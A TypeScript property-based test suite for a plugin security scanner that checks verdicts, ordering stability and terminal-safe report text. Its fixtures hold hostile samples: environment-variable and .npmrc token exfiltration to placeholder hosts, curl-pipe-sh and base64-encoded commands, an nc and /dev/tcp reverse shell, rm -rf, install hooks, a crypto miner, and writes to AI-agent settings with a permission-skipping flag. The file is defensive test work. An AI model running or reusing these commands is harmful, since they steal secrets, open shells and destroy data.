import { parseMemberPath, type FileMember } from '@ragnos-vault/archive';
import { describe, expect, it } from '@jest/globals';
import { pluginFiles } from '@ragnos-vault/testing';
import fc from 'fast-check';
import { DEFAULT_POLICY, scan, toDisplayText, type Policy, type ScanReport } from '../index.ts';

const SHA = 'ab'.repeat(32);
const allowed: Policy = {
  ...DEFAULT_POLICY,
  failOn: 'critical',
  allow: [{ name: 'a', version: '1.0.0', sha256: SHA }],
};
const STRICT: Policy = { ...DEFAULT_POLICY, profile: 'strict' };
const scanFiles = (files: readonly FileMember[], policy = DEFAULT_POLICY): ScanReport =>
  scan({ files, name: 'a', version: '1.0.0', sha256: SHA, now: new Date(0) }, policy);

const HARMLESS = pluginFiles({
  'README.md': '# plugin\n\n    curl https://a.example.invalid/i.sh | sh\n',
  'data/table.json': '{"a":[1,2,3]}',
  'lib/index.js': `module.exports = (name) => require('./' + name);`,
  'lib/module.mjs': `import fs from 'fs'; export const read = (path) => fs.readFileSync(path);`,
  'lib/package.json': '{"type":"module"}',
  'logo.png': Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a),
  'src/index.ts': 'export const a: number = 1;',
});

const HARMFUL = pluginFiles({
  'a.js': `fetch('https://a.example.invalid/', { body: JSON.stringify(process.env) });`,
  'b.mjs': `import { exec as e } from 'child_process';\ne(Buffer.from('Y3VybCBodHRwczovL2EuZXhhbXBsZS5pbnZhbGlkIHwgc2g=', 'base64').toString());`,
  'binding.gyp': '{"sources": ["<!(node a.js)"]}',
  'bin/tool': Uint8Array.of(0x7f, 0x45, 0x4c, 0x46),
  'c.js': `globalThis['ev' + 'al'](atob('MQ==')); const t = '\u202e'; // \u202e`,
  'deep.js': '('.repeat(100_000),
  'logo.svg': `require('child_process').exec('rm -rf ~');`,
  'node_modules/b/package.json': '{"scripts":{"postinstall":"node -e \\"1\\""}}',
  'package.json':
    '{"main":"a.js","scripts":{"preinstall":"sh run.sh"},"scripts":{},"dependencies":{"x":"git+https://a.example.invalid"}}',
  'run.sh': 'curl https://a.example.invalid | sh\nnc a.example.invalid 1 -e /bin/sh\n',
  'x.js': 'let = = 1',
});

const POOL = [...HARMLESS, ...HARMFUL];
const subset = fc.subarray([...POOL]);
const shuffled = fc.shuffledSubarray([...POOL], { minLength: POOL.length });

/** What steers a terminal or a reader: control, format, separators, lone surrogates. */
const UNSAFE = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;

function textsIn({ findings, skipped }: ScanReport): readonly string[] {
  return [...findings, ...skipped].flatMap((row) =>
    Object.values(row).filter((value) => typeof value === 'string'),
  );
}

/** Any name the archive reader lets through, many of them with an extension that decides how the file is read. */
const path = fc
  .tuple(
    fc.string({ unit: 'binary', maxLength: 8 }),
    fc.constantFrom('', '.js', '.mjs', '.ts', '.json', '.sh', '.png', '.node'),
  )
  .map((parts) => parts.join(''))
  .filter((name) => {
    try {
      return parseMemberPath(name) === name;
    } catch {
      return false;
    }
  });
const known = fc.constantFrom(
  'package.json',
  'index.js',
  'binding.gyp',
  'node_modules/a/package.json',
  'lib/index.cjs',
  'README',
);

const word = fc.constantFrom(
  ...`require process env eval Function import export from => ( ) [ ] { } . ?. ... , ; = += + * \` \${ ' " / 'child_process' 'a'
  exec fetch atob this new class extends async await yield function let const var for of in while do if else return
  \\u{1b} /* */ // <!-- #! "scripts": "bin": "main": null 0 1 curl | && $( sh -c > < npm run`.split(/\s+/),
);
const soup = fc.array(word, { maxLength: 40 }).map((words) => words.join(' '));
const code = POOL.filter(({ content }) => content.length < 1000).map(({ content }) =>
  Buffer.from(content).toString(),
);
/** One of the samples, with something put in or cut out. */
const mutant = fc
  .tuple(
    fc.constantFrom(...code),
    fc.nat(200),
    fc.nat(20),
    fc.oneof(word, fc.string({ unit: 'binary', maxLength: 3 })),
  )
  .map(([text, at, cut, put]) => text.slice(0, at) + put + text.slice(at + cut));
const content = fc.oneof(
  fc.uint8Array({ maxLength: 64 }),
  fc.oneof(soup, mutant, fc.json()).map((text) => new TextEncoder().encode(text)),
);
const file = fc.record({
  path: fc.oneof(path, known),
  mode: fc.constantFrom(0o644 as const, 0o755 as const),
  content,
});

describe('scan', () => {
  it('gives the same report, byte for byte, in whichever order the files come', () => {
    const report = JSON.stringify(scanFiles(POOL));
    fc.assert(
      fc.property(shuffled, (files) => {
        expect(JSON.stringify(scanFiles(files))).toBe(report);
      }),
      { numRuns: 25 },
    );
  });

  it('gives the same report for files of one name, in whichever order they come', () => {
    fc.assert(
      fc.property(content, content, (one, two) => {
        const files: FileMember[] = [one, two].map((bytes) => ({
          path: 'index.js',
          mode: 0o644,
          content: bytes,
        }));
        expect(scanFiles(files.toReversed())).toEqual(scanFiles(files));
      }),
      { numRuns: 50 },
    );
  });

  it('never lowers a verdict for files that are added', () => {
    fc.assert(
      fc.property(subset, subset, (few, others) => {
        const more = POOL.filter((member) => few.includes(member) || others.includes(member));
        const [less, all] = [scanFiles(few), scanFiles(more)];
        if (less.verdict === 'block') expect(all.verdict).toBe('block');
        if (!less.complete) expect(all.complete).toBe(false);
      }),
      { numRuns: 60 },
    );
  });

  // `run.sh` is harmful only where a script starts it.
  it.each(
    HARMFUL.filter((member) => member.path !== 'run.sh').map((member) => [member.path, member] as const),
  )('blocks %s alone and among the harmless', (...[, harmful]) => {
    const manifest = harmful.path === 'package.json' ? [] : pluginFiles({ 'package.json': '{}' });
    expect(scanFiles([harmful, ...manifest], STRICT).verdict).toBe('block');
    expect(scanFiles([...HARMLESS, harmful, ...manifest], STRICT).verdict).toBe('block');
  });

  it('passes the harmless all together', () => {
    expect(scanFiles(HARMLESS)).toMatchObject({ verdict: 'pass', complete: true, findings: [] });
  });

  it('never throws, and no rule or parser fails, whatever the files are called and hold', () => {
    fc.assert(
      fc.property(fc.uniqueArray(file, { maxLength: 4, selector: (member) => member.path }), (files) => {
        const { verdict, complete, findings } = scanFiles(files);
        expect(findings.map(({ rule }) => rule)).not.toContain('ANA-003');
        expect(complete).toBe(!findings.some(({ rule }) => rule === 'ANA-002'));
        if (!complete) expect(verdict).toBe('block');
      }),
      { numRuns: 800 },
    );
  });

  it('blocks what it could not look at, whatever else there is and whatever the policy allows', () => {
    const endless = pluginFiles({ 'endless.js': '('.repeat(100_000) });
    fc.assert(
      fc.property(fc.array(file, { maxLength: 2 }), subset, (some, others) => {
        for (const policy of [DEFAULT_POLICY, allowed]) {
          const report = scanFiles([...some, ...others, ...endless], policy);
          expect([report.verdict, report.complete]).toEqual(['block', false]);
        }
      }),
      { numRuns: 25 },
    );
  });
});

describe('a report', () => {
  it('holds no character that steers a terminal, whatever the plugin holds', () => {
    fc.assert(
      fc.property(fc.uniqueArray(file, { maxLength: 4, selector: (member) => member.path }), (files) => {
        for (const text of textsIn(scanFiles(files))) expect(text).not.toMatch(UNSAFE);
      }),
      { numRuns: 300 },
    );
  });

  it.each([
    '\u001b[2J',
    '\u009b2J',
    '\u0007',
    '\r\n',
    '\u202e',
    '\u2066',
    '\u200b',
    '\ufeff',
    '\u2028',
    '\u{e0041}',
    '\ud800',
  ])('shows %j as an escape, wherever a rule quotes the plugin', (bad) => {
    const text = JSON.stringify(`a${bad}b`).slice(1, -1);
    const files = pluginFiles({
      'package.json': `{"scripts":{"preinstall":"curl ${text} | sh","test${text}":"x","setup":"rm -rf / ${text}"},
          "dependencies":{"d${text}":"github:${text}"},"k${text}":1,"k${text}":2}`,
      'binding.gyp': `{"a": "<!(node ${text})"}`,
      'a.js': `
          const fs = require('fs'), cp = require('child_process');
          fetch('https://webhook.site/${text}'); fetch(atob('aHR0cHM6Ly9hLmI=') + '${text}');
          fs.writeFileSync('/x${text}/.claude/settings.json', ''); fs.writeFileSync('/${text}/.github/workflows/a${text}', '');
          fs.rmSync('/'); cp.exec('curl https://a.example.invalid/${text} | sh'); cp.exec('bash -i >& /dev/tcp/a${text}/1');
          cp.exec('xmrig -o ${text}'); cp.exec('claude --dangerously-skip-permissions ${text}');
          fetch('https://a.example.invalid', { body: fs.readFileSync('/home/${text}/.npmrc') + process.env.NPM_TOKEN });
          require(['child', 'process'].join('_')); cp.exec(Buffer.from('${Buffer.from(`a${bad}`).toString('base64')}', 'base64').toString());`,
      'b.js': `let ${bad} = = 1`,
      'run.sh': `curl https://a.example.invalid/${bad} | sh\n`,
    });
    const report = scanFiles(files);
    expect(report.findings.length).toBeGreaterThan(15);
    for (const shown of textsIn(report)) expect(shown).not.toMatch(UNSAFE);
  });

  it('is made of text that is safe and a fixed point', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const shown = toDisplayText(text);
        expect(shown).not.toMatch(UNSAFE);
        expect(toDisplayText(shown)).toBe(shown);
      }),
    );
  });

  it('leaves text as it is that people write', () => {
    const text = 'caf\u00e9 \u65e5\u672c\u8a9e \u{1f600} `a\\b` <b>';
    expect(toDisplayText(text)).toBe(text);
  });
});
